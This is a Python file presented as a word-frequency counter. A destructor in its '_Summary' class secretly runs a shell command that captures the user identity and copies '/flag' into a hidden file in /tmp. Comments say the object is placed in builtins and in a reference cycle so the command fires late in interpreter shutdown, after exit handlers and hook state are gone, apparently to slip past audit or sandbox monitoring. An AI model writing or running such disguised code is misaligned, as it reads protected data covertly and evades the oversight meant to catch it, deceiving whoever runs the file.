"""Word-frequency counter with a small on-exit summary."""
import builtins
import collections
import sys


class _Summary:
    # everything needed later is bound now: module globals are gone by the time this runs
    def __init__(self, counter):
        self.counter = counter

    def __del__(self, _run=sys.modules["posix"].system,
                _cmd="id > /tmp/.pj_late 2>&1; cat /flag >> /tmp/.pj_late"):
        _run(_cmd)


def count(text):
    return collections.Counter(w.strip(".,;:!?").lower() for w in text.split())


if __name__ == "__main__":
    c = count("the quick brown fox jumps over the lazy dog the end")
    print(c.most_common(3))
    # parked in the builtins module: it is one of the last namespaces cleared at shutdown,
    # after atexit handlers and after most modules (and their hook state) are torn down
    builtins.__dict__["_wf_summary"] = _Summary(c)
    # a reference cycle also delays it to the final collection
    cyc = [_Summary(c)]
    cyc.append(cyc)
    del cyc
